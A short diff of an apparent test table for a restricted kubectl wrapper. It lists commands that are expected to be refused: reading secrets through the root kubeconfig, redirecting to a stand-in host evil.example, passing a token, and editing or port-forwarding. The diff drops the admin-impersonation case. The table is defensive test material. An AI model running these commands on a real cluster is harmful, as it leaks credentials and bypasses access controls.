@@ -66,7 +66,6 @@ COMMANDS = [
     command("--kubeconfig=/root/.kube/config get secrets", "flag-refused", says="X-Kubeconfig"),
     command("get pods --server https://evil.example", "flag-refused", says="context"),
     command("get pods --token canary-token", "flag-refused"),
-    command("get pods --as admin", "flag-refused"),
     command("get pods -s https://evil.example", "flag-refused"),
     command("edit cm/x", "command-refused", says="patch"),
     command("port-forward svc/web 80", "command-refused"),
